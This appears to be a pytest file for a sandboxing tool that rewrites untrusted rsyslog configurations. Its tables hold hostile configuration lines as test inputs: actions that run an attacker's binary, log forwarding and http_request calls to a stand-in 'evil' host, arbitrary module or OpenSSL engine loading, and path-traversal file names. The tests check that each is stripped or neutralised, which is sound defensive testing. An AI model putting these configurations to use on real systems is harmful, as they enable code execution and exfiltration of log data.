"""Hostile configurations in a lab: nothing of the user's is run but rsyslogd, and it writes and
sends nowhere else."""

from __future__ import annotations

import shutil
import socket
import tempfile
from pathlib import Path

import pytest

from tests.lab.test_copy import ES, fitted, said_of
from tuner.host.process import wait_until
from tuner.lab.confined import confined
from tuner.lab.entrances import TcpPort, free_port
from tuner.lab.rsyslogd import Rsyslogd
from tuner.lab.scratch import scratch, subfolder
from tuner.modules.input import LOOPBACK
from tuner.script.parser import parse
from tuner.script.printing import printed

INPUT = 'input(type="imtcp" port="514")\n'
LEFT_OUT = {
    "omprog": '*.* action(type="omprog" binary="/tmp/evil")',
    "ompipe": "*.* |/tmp/evil",
    "ompipe, new form": '*.* action(type="ompipe" pipe="/tmp/evil")',
    "program": "*.* ^/tmp/evil;RSYSLOG_TraditionalFileFormat",
    "mmexternal": '*.* action(type="mmexternal" binary="/tmp/evil")',
    "improg": 'module(load="improg")\ninput(type="improg" binary="/tmp/evil" tag="t")',
    "a directive": "$ActionOMProgBinary /tmp/evil",
    "a file at a place that is read at the start": '*.* action(type="omfile" file=`cat /tmp/evil`)',
    "another host": "*.* @@evil:514",
    "a terminal": '*.* action(type="omusrmsg" users="evil")',
}
HOLES = {
    "a module by its path": 'module(load="/tmp/evil.so")',
    "a module above rsyslogd's": 'module(load="../../../tmp/evil")',
    "a module that is read at the start": "module(load=`cat /tmp/evil`)",
    "a program that gives keys": '*.* action(type="omfile" file="/var/log/x" cry.provider="gcry" '
    'cry.keyprogram="/tmp/evil")',
    "a program that gives a queue keys": '*.* action(type="omfile" file="/var/log/x" '
    'queue.type="Disk" queue.filename="q" queue.cry.provider="gcry" '
    'queue.cry.keyprogram="/tmp/evil")',
    "the environment": 'global(environment=["http_proxy=http://evil:1"])',
    "an engine of OpenSSL": 'global(defaultOpensslEngine="/tmp/evil.so")',
    "a request": 'module(load="fmhttp")\nset $!x = http_request("http://evil/" & $msg);',
    "a request as a condition": 'if http_request("http://evil/") == "x" then stop',
    "a server for each message": '*.* action(type="mmdarwin" socketpath="/tmp/evil")',
    "a file above the folder": '*.* action(type="omfile" file="/../../evil")',
    "files of a queue above the folder": '*.* action(type="omfile" file="/var/log/x" '
    'queue.type="Disk" queue.filename="../../evil/q")',
    "a file of errors": 'global(oversizemsg.errorfile="/tmp/evil")',
    "a file of an action's errors": '*.* action(type="omfile" file="/var/log/x" '
    'action.errorfile="/tmp/evil")',
    "a program that rotates files": '*.* action(type="omfile" file="/var/log/x" '
    'rotation.sizeLimit="1" rotation.sizeLimitCommand="/tmp/evil")',
    "a program of an outchannel": "$outchannel x,/var/log/x,1,/tmp/evil\n*.* :omfile:$x",
}  # fmt: skip


def bound(folder: Path, hostile: str) -> tuple[str, list[str]]:
    """The configuration that a lab runs, and what is said to be left out of it."""
    made = fitted(folder, f"{INPUT}{hostile}\n*.* {ES})\n")
    return printed(made.block), [*map(str, said_of(made))]


@pytest.mark.parametrize("what", LEFT_OUT)
def test_what_runs_or_sends_elsewhere_is_left_out_and_said(what: str, tmp_path: Path) -> None:
    text, said = bound(tmp_path, LEFT_OUT[what])
    assert "evil" not in text
    assert any(f"{tmp_path}/rsyslog.conf:" in one for one in said)


@pytest.mark.parametrize("what", HOLES)
def test_no_parameter_runs_or_sends_elsewhere(what: str, tmp_path: Path) -> None:
    text, said = bound(tmp_path, HOLES[what])
    assert "/evil" not in text
    assert "evil:" not in text
    assert any(f"{tmp_path}/rsyslog.conf:" in one for one in said)


@pytest.mark.parametrize("kind", ["ompipe", "omshell", "omprog", "mmexternal"])
@pytest.mark.parametrize("built_in", ["", "builtin:"])
def test_the_last_step_leaves_out_what_runs_or_pipes_by_either_name(
    kind: str, built_in: str, tmp_path: Path
) -> None:
    """Whatever stands above it: tests of a pipeline come to it by a way of their own."""
    action = f'action(type="{built_in}{kind}" pipe="/tmp/evil" binary="/tmp/evil")'
    made = confined(parse(action, "x.conf")[0], str(tmp_path))
    assert "evil" not in printed(made.block)
    assert [one.message for one in made.left_out] == [f"action {built_in}{kind}"]


def test_a_module_of_the_old_form_is_one_of_rsyslogds_own(tmp_path: Path) -> None:
    assert 'module(load="evil")' in bound(tmp_path, "$ModLoad /tmp/evil.so")[0]


@pytest.mark.parametrize(
    ("module", "inputs"),
    [
        ("imtcp", 'port="514" listenPortFileName="/tmp/evil"'),
        ("imptcp", 'port="514" path="/tmp/evil" unlink="on"'),
        ("imfile", 'file="/var/log/x" tag="x"'),
    ],
)
def test_no_input_that_is_flooded_writes_elsewhere(
    module: str, inputs: str, tmp_path: Path
) -> None:
    loaded = f'module(load="{module}" statefile.directory="/tmp/evil")'
    made = fitted(tmp_path, f'{loaded}\ninput(type="{module}" {inputs})\n*.* {ES})\n')
    assert "/evil" not in printed(made.block)
    assert any(one.what == "statefile.directory" for one in made.replaced)


@pytest.mark.parametrize(
    "template",
    [
        'type="string" string="/../../evil/%HOSTNAME%")',
        'type="list") { constant(value="/\\\\x2e\\\\x2e/evil") }',
        'type="list") { constant(value="/.") constant(value="./evil") }',
        'type="list") { property(name="msg" outname="/../../evil" format="jsonf") }',
        'type="list" option.jsonf="on") { constant(value="/../evil" outname="a") }',
        'type="subtree" subtree="$!")',
    ],
    ids=["a text", "escapes", "pieces", "the name of a member", "members", "a subtree"],
)
def test_files_whose_names_lead_above_the_folder_are_not_written(
    template: str, tmp_path: Path
) -> None:
    text, said = bound(tmp_path, f'template(name="up" {template}\n*.* ?up')
    assert "dynaFile" not in text
    assert (
        f"{tmp_path}/rsyslog.conf:3:5: an action into a file outside of the lab -> left out" in said
    )


@pytest.mark.parametrize(
    ("written", "runs"),
    [
        ("/%HOSTNAME%.log", "/%HOSTNAME:::secpath-replace%.log"),
        ("/%$!a%%$!b%", "/%$!a:::secpath-replace%%$!b:::secpath-replace%"),
        ("/%msg:F,58:2%", "/%msg:F,58:2:secpath-replace%"),
        ("/%msg:1:$:lowercase%", "/%msg:1:$:lowercase,secpath-replace%"),
        ("/%msg:R,ERE,0,BLANK:a%b--end%", "/%msg:R,ERE,0,BLANK:a%b--end:secpath-replace%"),
        ("/%msg:R,ERE:a--end:lowercase%", "/%msg:R,ERE:a--end:lowercase,secpath-replace%"),
        ("/%$!a:::lowercase:name%", "/%$!a:::lowercase,secpath-replace:name%"),
        ("/%$!a::::name%", "/%$!a:::secpath-replace:name%"),
        ("/%msg:R,ERE:a--end:json:name%", "/%msg:R,ERE:a--end:json,secpath-replace:name%"),
    ],
)
def test_what_an_event_says_is_one_part_of_the_name_of_a_file(
    written: str, runs: str, tmp_path: Path
) -> None:
    text, _ = bound(tmp_path, f'template(name="up" type="string" string="{written}")\n*.* ?up')
    assert f'string="/scratch/files{runs}"' in text


@pytest.mark.live
@pytest.mark.skipif(shutil.which("rsyslogd") is None, reason="rsyslogd is not installed")
def test_no_variable_leads_rsyslogd_out_of_the_folder() -> None:
    port = free_port()
    with tempfile.TemporaryDirectory() as parent, scratch(Path(parent)) as folder:
        own = subfolder(folder, "own")
        conf = f"""
            module(load="imtcp")
            input(type="imtcp" address="127.0.0.1" port="{port}")
            template(name="a" type="string" string="{own}/a/%$!up%/%$!up%/%$!up%/evil")
            template(name="b" type="string" string="{own}/b/%$!far%")
            template(name="c" type="list") {{ constant(value="{own}/c/") property(name="$!far") }}
            template(name="d" type="string" string="{own}/d/%$!up:R,ERE,1,BLANK:(.*)--end%/evil")
            template(name="last" type="string" string="{own}/e%$!none%/last")
            set $!up = "..";
            set $!far = "../../evil";
            action(type="omfile" dynaFile="a")
            action(type="omfile" dynaFile="b")
            action(type="omfile" dynaFile="c")
            action(type="omfile" dynaFile="d")
            action(type="omfile" dynaFile="last")
        """
        text = printed(confined(parse(conf, "x.conf")[0], str(own)).block)
        rsyslogd = Rsyslogd(text, own, [TcpPort(port)])
        try:
            with socket.create_connection((LOOPBACK, port)) as sender:
                sender.sendall(b"<13>1 2026-01-01T00:00:00Z host p - - - text\n")
            assert wait_until((own / "e_/last").is_file, 60)
        finally:
            rsyslogd.stop(60)
        assert sorted(str(one.relative_to(own)) for one in own.glob("[abcd]/**/*evil")) == [
            "a/_./_./_./evil", "b/.._.._evil", "c/.._.._evil", "d/_./evil",
        ]  # fmt: skip
        assert [*folder.glob("*evil*"), *Path(parent).glob("*evil*")] == []


def test_the_default_ruleset_stays_that_which_is_named(tmp_path: Path) -> None:
    text, _ = bound(tmp_path, "$DefaultRuleset other\n$RuleSet other\n*.* /var/log/other")
    assert text.rstrip().endswith("call other")


@pytest.mark.parametrize(
    "harmless",
    [
        'set $!x = exec_template("t");',
        'lookup_table(name="l" file="/etc/shadow")',
        '*.* action(type="mmnormalize" rulebase="/etc/shadow")',
        'template(name="t" type="plugin" plugin="standard")',
    ],
)
def test_what_only_rsyslogd_itself_reads_stays(harmless: str, tmp_path: Path) -> None:
    """It runs as nobody, and reads what everybody may."""
    text, _ = bound(tmp_path, harmless)
    assert harmless.removeprefix("*.* ").rstrip(";)") in text


def test_a_template_of_a_plugin_has_no_room_for_a_number(tmp_path: Path) -> None:
    plugin = 'template(name="t" type="plugin" plugin="evil")'
    _, said = bound(tmp_path, f'{plugin}\n*.* {ES.replace("es", "two")} template="t")')
    assert any("an action whose template has no room for a number" in one for one in said)
